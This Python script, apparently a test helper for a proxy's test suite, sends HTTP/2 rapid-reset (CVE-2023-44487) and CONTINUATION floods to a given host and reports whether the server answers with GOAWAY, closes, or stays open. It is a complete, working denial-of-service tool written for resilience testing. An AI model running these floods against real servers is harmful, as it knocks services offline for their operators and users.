#!/usr/bin/python3
"""HTTP/2 floods against an h2c (prior knowledge) listener, for engine/tests/proxy.rs.

    attack.py HOST:PORT rapid-reset|continuation AUTHORITY

rapid-reset: HEADERS immediately followed by RST_STREAM(CANCEL), 5,000 times as
fast as the socket takes them (CVE-2023-44487). continuation: one HEADERS without
END_HEADERS, then CONTINUATION frames of junk header bytes, up to 4 MiB
(CVE-2024-27316 family). Then reads what the server sends until it closes or 10 s
pass, and prints one line: `goaway <error code>` or `closed` or `open`, plus the
number of bytes sent. Debian's python3-hyperframe and python3-hpack only.
"""
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame,
                              RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    mode, authority = sys.argv[2], sys.argv[3]
    s = socket.create_connection((host, int(port)), timeout=10)
    s.sendall(PREFACE + SettingsFrame(0).serialize())
    enc = Encoder()
    block = enc.encode([(":method", "GET"), (":scheme", "http"),
                        (":authority", authority), (":path", "/")])
    sent = 0
    try:
        if mode == "rapid-reset":
            out = bytearray()
            for i in range(5000):
                sid = 1 + 2 * i
                h = HeadersFrame(sid)
                h.data = block
                h.flags.add("END_HEADERS")
                h.flags.add("END_STREAM")
                r = RstStreamFrame(sid)
                r.error_code = 8  # CANCEL
                out += h.serialize() + r.serialize()
                if len(out) > 65536:
                    s.sendall(out)
                    sent += len(out)
                    out = bytearray()
            s.sendall(out)
            sent += len(out)
        elif mode == "continuation":
            h = HeadersFrame(1)
            h.data = block
            s.sendall(h.serialize())
            junk = Encoder().encode([("x-junk", "a" * 8000)])
            deadline = time.time() + 10
            while sent < 4 * 1024 * 1024 and time.time() < deadline:
                c = ContinuationFrame(1)
                c.data = junk
                s.sendall(c.serialize())
                sent += len(junk) + 9
        else:
            raise SystemExit(f"unknown mode {mode}")
    except (BrokenPipeError, ConnectionResetError):
        pass
    # What did the server say?
    buf = b""
    deadline = time.time() + 10
    s.settimeout(0.5)
    verdict = "open"
    while time.time() < deadline:
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            continue
        except ConnectionResetError:
            verdict = "closed"
            break
        if not chunk:
            verdict = "closed"
            break
        buf += chunk
        while len(buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
            if len(buf) < 9 + length:
                break
            frame.parse_body(memoryview(buf[9:9 + length]))
            buf = buf[9 + length:]
            if isinstance(frame, GoAwayFrame):
                verdict = f"goaway {frame.error_code}"
        if verdict.startswith("goaway"):
            break
    print(verdict, sent)


if __name__ == "__main__":
    main()
